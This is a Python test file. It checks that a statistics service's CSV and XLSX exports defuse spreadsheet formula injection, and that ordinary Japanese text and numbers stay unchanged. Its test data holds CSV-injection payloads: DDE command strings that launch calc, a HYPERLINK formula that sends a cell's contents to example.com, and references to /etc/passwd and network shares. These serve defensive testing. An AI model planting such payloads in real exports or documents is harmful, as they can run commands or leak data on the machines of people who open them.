"""Exported files hold the tables' cells, and nothing in them is ever run."""

from __future__ import annotations

import re
from itertools import product
from pathlib import Path

import pytest

from app.domain.estimates import About, AtMost, ShownNumber
from app.services.statistics.exporting import FORMATS, exported
from app.services.statistics.shown_tables import Column, Row, Table, Told, read_words
from app.services.statistics.spreadsheets import as_csv, as_xlsx, harmless
from app.services.statistics.statement import ReleaseHistory, Statement, StatementSection
from app.services.statistics.version_history import VersionHistory
from tests.builders import SHIPPED
from tests.support.spreadsheets import read_csv, read_xlsx

WORDS = read_words((Path(SHIPPED).parent / "statistics-words.json").read_text(encoding="utf-8"))
HEADINGS = [
    "h",
    *(f"h n {WORDS(f'column.{name}')}" for name in ("people", "people_low", "people_high")),
]
STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " =", "\u200b=", "\ufeff="]
BODIES = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.com?x="&A1,"here")',
    "IMPORTXML(A1)",
    "SUM(A1:A9)",
    "2+5+cmd|'/c calc'!A0",
    "腰が痛い",
    '"; =1+1',
    "1\r\n=1+1",
    *(f"{name}(A1)" for name in ("INDIRECT", "WEBSERVICE", "RTD", "DDE", "CALL", "EXEC", "NOW")),
    *(f"{name}(1)" for name in ("ＳＵＭ", "sum", "Sum", "RAND", "TODAY", "CHAR", "_xlfn.SINGLE")),
    *(f"'{path}'!A1" for path in ("C:\\a.xls", "\\\\host\\share", "file:///etc/passwd")),
    *("(1)", "-1", "+1", "=1", "@SUM(1)", "0", "#REF!", "{1}", '"a"&"b"', "1%"),
]
PAYLOADS = [start + body for start, body in product(STARTS, BODIES)]
LIVE = re.compile(r"^[\s\u200b\ufeff]*[=+\-@＝＋－＠]|^[\t\r\n]")


def statement(*tables: Table, title: str = "Q", periods: tuple[str, ...] = ("P",)) -> Statement:
    history = ReleaseHistory(
        slug="q", title=title, runs=(), versions=VersionHistory(()), sources={}, weeks={}
    )
    section = StatementSection("all", "All", tables)
    return Statement(history=history, chosen=None, periods=periods, sections=(section,))


def table(*rows: tuple[str, int | None], heading: str = "h", title: str = "T") -> Table:
    return Table(
        name="t",
        title=title,
        kind="bars",
        first=heading,
        columns=(Column(heading, "n", shares=False),),
        rows=tuple(Row(label, (n if n is None else Told(number(n)),)) for label, n in rows),
    )


def number(n: int) -> ShownNumber:
    """Return a number with its ends, or only its upper one where it is small."""
    return About(n, n - 6, n + 7) if n > 16 else AtMost(n)


def poisoned(payloads: list[str], *, title: str) -> Statement:
    """Return a statement that says payloads wherever staff can write words."""
    tables = (table((bad, 10), heading=bad, title=bad) for bad in payloads)
    return statement(*tables, title=title, periods=(title, title))


def test_no_cell_header_or_title_is_a_formula() -> None:
    assert len(PAYLOADS) == 504
    nothing_runs_of(poisoned(PAYLOADS, title="Q"))
    for start in STARTS:
        nothing_runs_of(poisoned([], title=f"{start}1+1"))


def nothing_runs_of(bad: Statement) -> None:
    for line in read_csv(as_csv(bad, words=WORDS)):
        assert not [cell for cell in line if LIVE.match(cell)]
    book = read_xlsx(as_xlsx(bad, words=WORDS))
    assert (book.formulas, book.links) == (0, 0)
    texts = [c for rows in book.sheets.values() for row in rows for c in row if isinstance(c, str)]
    assert not [text for text in texts if LIVE.match(text)]
    said = [one.title for one in bad.tables]
    assert {str(harmless(one)) for one in (*said, *bad.periods)} <= set(texts)


def test_the_check_above_knows_a_live_formula() -> None:
    assert all(LIVE.match(payload) for payload in PAYLOADS)
    assert not LIVE.match("'=1+1")


@pytest.mark.parametrize(
    "text", ["腰が重い", "1 または 2", "(A) はい", "・いいえ", "5-10", "a=b", "", "'x"]
)
def test_ordinary_words_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize("number", [0, 10, -1, None])
def test_numbers_and_gaps_stay_as_they_are(number: int | None) -> None:
    assert harmless(number) == number


def test_both_files_hold_the_same_cells_and_numbers_stay_numbers() -> None:
    made = statement(table(("腰痛", 120), ("首, 肩\u3000こり", None), ('"はい"', 9)))
    lines = read_csv(as_csv(made, words=WORDS))
    assert lines[-6:] == [
        ["T"],
        HEADINGS,
        ["腰痛", "120", "114", "127"],
        ["首, 肩\u3000こり", "", "", ""],
        ['"はい"', "", "0", "9"],
        [],
    ]
    rows = read_xlsx(as_xlsx(made, words=WORDS)).sheets["2 All"]
    assert rows == [
        ["T"],
        HEADINGS,
        ["腰痛", 120, 114, 127],
        ["首, 肩\u3000こり"],
        ['"はい"', None, 0, 9],
    ]


@pytest.mark.parametrize("kind", FORMATS)
def test_the_same_numbers_are_the_same_bytes(kind: str) -> None:
    made = [
        exported(statement(table(("x", 10))), kind=kind, words=WORDS)  # type: ignore[arg-type]  # one of FORMATS
        for _ in range(2)
    ]
    assert made[0] == made[1]


def test_sheets_get_names_that_excel_takes() -> None:
    sections = tuple(
        StatementSection(str(n), title, (table(("x", 10)),))
        for n, title in enumerate(["=a", "[b]:*?/\\", "長い" * 30, "same", "same"])
    )
    history = ReleaseHistory(
        slug="q", title="Q", runs=(), versions=VersionHistory(()), sources={}, weeks={}
    )
    made = Statement(history=history, chosen=None, periods=(), sections=sections)
    names = list(read_xlsx(as_xlsx(made, words=WORDS)).sheets)
    assert len(set(names)) == 6
    assert all(0 < len(name) <= 31 for name in names)
    assert not any(set(name) & set("[]:*?/\\'") for name in names)


def test_a_file_is_named_in_japanese_and_plainly_for_old_programs() -> None:
    made = exported(
        statement(table(("x", 10)), title="腰/首", periods=("9月1日〜9月30日",)),
        kind="csv",
        words=WORDS,
    )
    assert made.name == "腰-首 集計 9月1日〜9月30日.csv"
    assert made.plain_name == "statistics.csv"
    assert made.media_type == "text/csv; charset=utf-8"
